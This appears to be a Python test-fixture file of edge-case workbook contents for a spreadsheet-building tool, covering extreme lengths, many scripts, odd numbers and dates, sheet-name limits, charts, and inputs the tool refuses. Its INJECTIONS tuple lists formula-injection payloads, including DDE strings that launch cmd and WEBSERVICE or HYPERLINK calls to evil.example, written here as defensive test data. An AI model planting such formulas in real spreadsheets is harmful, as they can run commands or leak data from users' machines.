"""Contents that strain a workbook: too much, too little, too long, in other scripts, with values that programs misread."""

# ruff: noqa: E501, RUF001 - content is data, in many scripts

from collections.abc import Mapping
from typing import Any, Final

from recipes.source import Column, Table
from tests.orchestration.skills.sheet.books import make_content, typed

Json = dict[str, Any]
_SENTENCE: Final = "The import of records fails when a file holds more than forty megabytes and nobody is told. "
_LONG_WORD: Final = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft"
_FAMILY: Final = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
TYPES: Final = ("text", "integer", "number", "percent", "money", "date", "datetime", "yes_no")
INJECTIONS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", '=HYPERLINK("https://evil.example","x")', "{=1+1}",
    '=WEBSERVICE("https://evil.example")', "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "'=1+1", "<r>=1</r>", "<f>1+1</f>",
    "]]>", "<![CDATA[x]]>", "&amp;", '"=1"', ";=1", ",=1", "%0A=1", '=DDE("cmd";"/c calc";"x")',
)  # fmt: skip


def source(names: list[str], rows: list[tuple[Any, ...]]) -> Table:
    """Give a table of the sources; a column is of numbers where all its cells are."""
    columns = [list(column) for column in zip(*rows, strict=True)] or [[]] * len(names)
    kinds = ["text" if any(isinstance(cell, str) for cell in column) else "number" for column in columns]
    named = tuple(Column(name=name, type=kind) for name, kind in zip(names, kinds, strict=True))
    return Table(name="given", columns=named, rows=tuple(rows))


def _columns(*kinds: str, **more: Any) -> list[Json]:
    return [{"header": f"{kind} {at}", "type": kind, **more} for at, kind in enumerate(kinds, 1)]


def _texts(*texts: str) -> Json:
    return typed(_columns("text"), [[text] for text in texts])


def _taken(**more: Any) -> Json:
    return {"name": "Data", "tables": [{"name": "Taken", "rows_from": {"passage": "S1.1"}, **more}]}


def _chart(kind: str, *series: str, **more: Any) -> Json:
    return {
        "title": f"A {kind}",
        "type": kind,
        "table": "Typed",
        "categories": "text 1",
        "series": list(series),
        **more,
    }


def _charted(rows: list[list[Any]], *charts: Json) -> Json:
    return {**typed(_columns("text", *["number"] * (len(rows[0]) - 1)), rows), "charts": list(charts)}


def _sheets(*names: str) -> list[Json]:
    return [{**_texts(name), "name": name, "tables": [{"name": f"Of {name}", "columns": _columns("text"), "rows": [[name]]}]} for name in names]  # fmt: skip


_ALL_ROW: Final = ["a", 1, 1.5, 0.25, 9.99, "2026-01-05", "2026-01-05T09:30", True]
_NUMBERED: Final = [["a", 1, 2], ["b", 2, 1], ["c", 3, 5]]
_GROUPS: Final = {
    "name": "Groups",
    "columns": [{"header": "key"}, *({"header": take, "from_column": "n", "take": take} for take in ("sum", "average", "count", "least", "greatest"))],
    "rows_from": {"table": "Taken", "group_by": ["key"]},
}  # fmt: skip

CONTENTS: Final[dict[str, tuple[Json, Mapping[str, Table]]]] = {
    "one cell": (make_content(_texts("x")), {}),
    "one empty cell": (make_content(typed(_columns("number"), [[None]])), {}),
    "a sheet of notes alone": (make_content({"name": "Notes", "notes": f"{_SENTENCE * 40}\n\n=1+1\n- x"}), {}),
    "a sheet of figures alone": (make_content({"name": "Figures", "figures": [{"label": f"{_SENTENCE[:100]}{at}", "value": value} for at, value in enumerate((0, -1, 1.5, 1e12, 1e-9, 2**53, -0.0, 1e300))]}), {}),
    "a text of 16,384 signs": (make_content(_taken()), {"S1.1": source(["t", "n"], [("x" * 16_384, 1), (_SENTENCE * 170, 2)])}),
    "a text of 32,767 signs": (make_content(_taken()), {"S1.1": source(["t"], [("y" * 32_767,)])}),
    "texts of two thousand signs": (make_content(_texts((_SENTENCE * 30)[:1_999], _LONG_WORD * 20, "a\nb\nc" * 300)), {}),
    "every injection in cells": (make_content(_texts(*INJECTIONS)), {}),
    "every injection taken from a source": (make_content(_taken()), {"S1.1": source(["=1+1", "@x"], [(each, each) for each in INJECTIONS])}),
    "every injection in names": (make_content({"name": "=1+1", "title": "=1+1", "notes": "=1+1", "figures": [{"label": "=1+1", "value": 1}], "tables": [{"name": f"={at} {each}"[:100], "title": each, "note": each, "columns": [{"header": each, "type": "text"}], "rows": [[each]]} for at, each in enumerate(INJECTIONS[:8])]}, title="=1+1", subtitle="@x", author="+1", notes="-1"), {}),
    "texts that look like other things": (make_content(_texts("007", "1e5", "TRUE", "#N/A", "#REF!", "1/2", "3-4", "00:30", "1,234", "_x000D_", "_x005F_", "A1", "R1C1", "http://x.org", "mailto:a@b.c", "internal:'A'!A1", "None", "NaN", "∞", "-")), {}),
    "spaces around texts": (make_content(_texts(" a", "a ", "  ", "a  b", "\u00a0a\u00a0", "\u2003")), {}),
    "signs that no file holds": (make_content(_texts("a\x00b", "a\x0bb", "a\ufffeb", "a\ud800b", "a\u202eb", "a\x7fb", "a\u0085b")), {}),
    "emoji": (make_content(_texts("\U0001f600", _FAMILY, "\U0001f1e9\U0001f1ea", "e\u0301\u0302", "\U0001f600" * 600)), {}),
    "Arabic and Hebrew": (make_content({**typed([{"header": "الربع", "type": "text"}, {"header": "עמודה", "type": "number"}], [["الأول", 1], ["שלום Words", 2]]), "name": "الإيرادات", "title": "ההכנסות"}, title="الإيرادات", language="ar"), {}),
    "Chinese, Japanese, Korean": (make_content({**typed([{"header": "売上", "type": "number", "total": "sum"}], [[1], [2]]), "name": "数据 表"}, title="收入", language="zh"), {}),
    "two hundred columns": (make_content(_taken()), {"S1.1": source([f"Column {at}" for at in range(200)], [tuple(range(200))] * 3)}),
    "a hundred columns of every type": (make_content(typed(_columns(*(TYPES * 13)[:100]), [(_ALL_ROW * 13)[:100]] * 2)), {}),
    "one column of two thousand rows": (make_content(typed(_columns("integer", total="sum"), [[at] for at in range(2_000)])), {}),
    "every type": (make_content(typed(_columns(*TYPES), [_ALL_ROW, [None] * 8])), {}),
    "duplicate headers": (make_content(_taken()), {"S1.1": source(["a", "A", "a (2)", "", " ", "a\n", "b"], [tuple(range(7))])}),
    "headers of three hundred signs": (make_content(_taken()), {"S1.1": source(["h" * 300, "h" * 299 + "i", _SENTENCE * 3], [(1, 2, "x")])}),
    "a header of two thousand signs": (make_content(_taken()), {"S1.1": source(["h" * 2_000, "g"], [(1, 2)])}),
    "headers with units": (make_content(typed([{"header": "Load", "type": "number", "unit": "kWh"}, {"header": "Rate", "type": "number", "unit": "%"}, {"header": "Text", "type": "text", "unit": "@"}], [[1, 2, "x"]])), {}),
    "sheet names of 31 signs": (make_content(*_sheets("s" * 31, "s" * 30 + "t", "Ä" * 31, "数" * 31)), {}),
    "sheet names that need quotes": (make_content(*_sheets("A1", "R1C1", "RC", "1", "a b", "a!b", "a#b", "a,b", "(a)", "a&b", "<a>", '"a"', "TRUE", "SUM", "a.b", "-a", "$A$1", "é")), {}),
    "thirty sheets": (make_content(*_sheets(*(f"Sheet {at}" for at in range(30)))), {}),
    "eight tables on a sheet": (make_content({"name": "Many", "tables": [{"name": f"T{at}", "title": _SENTENCE[:at * 10 + 5], "note": _SENTENCE, "columns": _columns(*["number"] * (at + 1), total="sum"), "rows": [[at] * (at + 1)] * (at + 1)} for at in range(8)]}), {}),
    "table names that programs refuse": (make_content({"name": "Named", "tables": [{"name": name, "columns": _columns("text"), "rows": [["x"]]} for name in ("A1", "R", "C", "R1C1", "1", "a b", "a_b", "\U0001f600")]}), {}),
    "days before 1900": (make_content(typed(_columns("date", "datetime"), [["1850-01-01", "1899-12-31T23:59"], ["1900-02-28", "1900-01-01T00:00"], ["1900-03-01", "1900-03-01T00:00"], ["9999-12-31", "9999-12-31T23:59:59"]])), {}),
    "days that are none": (make_content(typed(_columns("date"), [["2026-02-30"], ["soon"], [20260105], [True], ["2026-1-5"], [None]])), {}),
    "months and years": (make_content(typed(_columns("date", "date"), [["2024-01-01", "2024-01-01"], ["2025-01-01", "2024-02-01"]])), {}),
    "truths of every spelling": (make_content(typed(_columns("yes_no"), [[True], [False], ["TRUE"], ["false"], ["yes"], [1], [None]])), {}),
    "whole numbers that are exact": (make_content(typed(_columns("integer", total="sum"), [[2**53 - 1], [-(2**53) + 1], [0], [999_999_999_999_999]])), {}),
    "whole numbers beyond what programs keep": (make_content(typed([{"header": "Id", "type": "text"}], [[2**53 + 1], [10**40], [-(10**400)], [12345678901234567890]])), {}),
    "numbers large and small": (make_content(typed(_columns("number", "number"), [[1e300, 1e-300], [-1e300, 5e-324], [1.7976931348623157e308, 0.1 + 0.2], [-0.0, 123456789.123456789]])), {}),
    "infinities and what is no number, as readers tell them": (make_content(_taken()), {"S1.1": source(["n", "m"], [("inf", 1), ("-inf", None), ("nan", 2)])}),
    "percents": (make_content(typed(_columns("percent", conditional="scale"), [[0.12], [-1.5], [0], [12345.678], [1e-9], [None]])), {}),
    "currencies": (make_content(typed([{"header": code, "type": "money", "currency": code, "total": "sum"} for code in ("USD", "EUR", "JPY", "KRW", "PLN", "XXX", "CHF")], [[1.5, -2, 3, 4, 5.25, 6, -7.125]])), {}),
    "currencies in German": (make_content(typed([{"header": code, "type": "money", "currency": code} for code in ("USD", "EUR", "JPY")], [[1.5, -2, 3]]), language="de-DE"), {}),
    "decimals and thousands": (make_content(typed([{"header": f"D{at}", "type": "number", "decimals": at, "thousands": bool(at % 2), "conditional": "bar"} for at in range(7)], [[12345.6789012] * 7, [-0.5] * 7])), {}),
    "formulas over gaps and zeros": (make_content(typed([*_columns("number", "number"), *({"header": kind, "formula": {"kind": kind, "of": ["number 1", "number 2"][: 1 if kind == "share" else 2]}} for kind in ("share", "change", "difference", "ratio", "sum", "average"))], [[1, 2], [0, 5], [None, 3], [-1, None], [1e300, 1e-300]])), {}),
    "totals of nothing": (make_content(typed([*_columns("text", "number", total="none"), {"header": "Sum", "type": "number", "total": "sum"}, {"header": "Mean", "type": "number", "total": "average"}], [["a", 1, None, None]])), {}),
    "groups under odd keys": (make_content({"name": "Summary", "tables": [_GROUPS]}, _taken()), {"S1.1": source(["key", "n"], [(key, at) for at, key in enumerate(["a*", "a", ">5", "=x", "", None, "TRUE", "~", "a?", "k" * 300, "12", " a", "A"])])}),
    "charts over odd values": (make_content(_charted([["=1+1", 1, -5], ["\U0001f600", 2, 0], ["", 3, 5], ["a", 4, 1e12]], _chart("column", "number 2"), _chart("bar", "number 2", "number 3"), _chart("line", "number 3"), _chart("stacked_column", "number 2", "number 3"))), {}),
    "charts of every type": (make_content(_charted(_NUMBERED, _chart("pie", "number 2"), _chart("doughnut", "number 2"), _chart("area", "number 2", "number 3"), _chart("combination", "number 2", "number 3"), _chart("scatter", "number 2", "number 3", highlight="b"), _chart("stacked_bar", "number 2", "number 3"))), {}),
    "a chart with gaps and long names": (make_content(_charted([[_SENTENCE[:80], 1, None], [_LONG_WORD, None, 2], ["c", 3, 3]], _chart("line", "number 2", "number 3", alt=_SENTENCE * 2, highlight="number 2"))), {}),
    "a chart of 240 points": (make_content(_charted([[f"Day {at}", at % 17] for at in range(240)], _chart("line", "number 2"))), {}),
    "two hundred sources": (make_content(_texts("x"), sources=[{"id": f"S{at}", "title": f"{at} {_SENTENCE}"[:118], "url": f"https://x.example/{'p' * 2_000}/{at}", "locator": _SENTENCE[:100], "kind": "web"} for at in range(1, 201)]), {}),
}  # fmt: skip

REFUSED: Final[dict[str, tuple[Json, Mapping[str, Table], str]]] = {
    "an empty table": (make_content(typed(_columns("text"), [])), {}, "table 'Typed' has neither rows nor rows_from"),
    "a table without columns": (make_content({"name": "X", "tables": [{"name": "X", "rows": [[]]}]}), {}, "table 'X' has no columns"),
    "a source without rows": (make_content(_taken()), {"S1.1": source(["a"], [])}, "table 'Taken': S1.1 has no rows"),
    "infinities": (make_content(typed(_columns("number"), [[float("inf")]])), {}, "input should be a finite number"),
    "no number": (make_content(typed(_columns("number"), [[float("nan")]])), {}, "input should be a finite number"),
    "a cell that is a list": (make_content(typed(_columns("text", "text"), [["x", "y"], ["z", ["w"]]])), {}, "table 1, row 2, cell 2: a cell holds a text, a number, true, false or null, not list"),
    "a text that no cell holds": (make_content(_taken()), {"S1.1": source(["t"], [("x" * 32_768,)])}, "column 't' has a text of 32,768 characters; a cell holds 32,767"),
    "a sum that no cell holds": (make_content(typed(_columns("number", total="sum"), [[9e307], [9e307]])), {}, "column 'number 1' has a total beyond what a cell holds"),
    "two hundred columns by hand": (make_content(typed(_columns(*["text"] * 200), [["x"] * 200])), {}, "columns has 200 entries; at most 100"),
    "two headers that differ in case": (make_content(typed([{"header": "a", "type": "text"}, {"header": "A", "type": "text"}], [["x", "y"]])), {}, "has two columns 'a'"),
    "two headers that are one with their units": (make_content(typed([{"header": "Load", "type": "number", "unit": "kWh"}, {"header": "load (kwh)", "type": "number"}], [[1, 2]])), {}, "has two columns 'load (kwh)'"),
    "a header of 300 signs by hand": (make_content(typed([{"header": "h" * 300, "type": "text"}], [["x"]])), {}, "header has 300 characters; at most 120"),
    **{
        f"a sheet name with {sign}": (make_content({**_texts("x"), "name": f"a{sign}b"}), {}, "sheet 1, name is ")
        for sign in "[]:*?/\\'"
    },
    "a sheet name of 32 signs": (make_content({**_texts("x"), "name": "s" * 32}), {}, "name has 32 characters; at most 31"),
    "a sheet name of emoji that programs count twice": (make_content({**_texts("x"), "name": "\U0001f600" * 16}), {}, "counts as 32 characters"),
    "two sheet names that differ in case": (make_content(*_sheets("same", "SAME")), {}, "the sheet name 'same' is given twice"),
    "31 sheets": (make_content(*_sheets(*(f"Sheet {at}" for at in range(31)))), {}, "sheets has 31 entries; at most 30"),
    "a pie of negative values": (make_content(_charted([["a", -1], ["b", 2]], _chart("pie", "number 2"))), {}, "a pie needs positive values"),
    "a chart of texts": (make_content({**typed(_columns("text", "text"), [["a", "b"]]), "charts": [_chart("column", "text 2")]}), {}, "'text 2' holds no numbers"),
}  # fmt: skip
